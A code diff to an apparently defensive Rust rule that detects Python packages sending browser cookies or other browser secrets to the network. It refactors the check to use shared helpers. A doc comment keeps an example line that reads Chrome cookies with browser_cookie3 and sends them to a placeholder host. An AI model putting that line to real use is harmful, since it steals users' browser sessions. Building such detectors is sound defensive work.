@@ -27,10 +27,11 @@
 //!     return requests.get('http://x.example.invalid', cookies=browser_cookie3.chrome())
 //! ```
 
-use fondaco_python::{Api, Call, Taint};
+use fondaco_python::{Call, Taint};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
 
 use super::secret_exfiltration::of;
+use crate::sending::{sent, signs_in};
 use crate::{Hits, Package, Rule};
 
 pub(crate) const RULE: Rule = Rule {
@@ -50,13 +51,6 @@ fn check(package: &Package<'_>, hits: &mut Hits) {
 }
 
 fn sends_it(call: &Call) -> bool {
-    let signs_in = |name: &str| matches!(name, "cookies" | "headers" | "auth" | "cert");
-    let named = call.kwargs.iter().filter(|(name, _)| !signs_in(name)).map(|(_, value)| value);
-    let carried = match call.api {
-        Some(Api::NetworkSend) => call.args.iter().chain(named).any(|value| of(value).has(Taint::BROWSER)),
-        // In the address itself.
-        Some(Api::NetworkFetch) => call.args.first().is_some_and(|address| of(address).has(Taint::BROWSER)),
-        _ => false,
-    };
+    let carried = sent(call).any(|(name, value)| !signs_in(name) && of(value).has(Taint::BROWSER));
     carried && !call.callee.contains(".recv")
 }
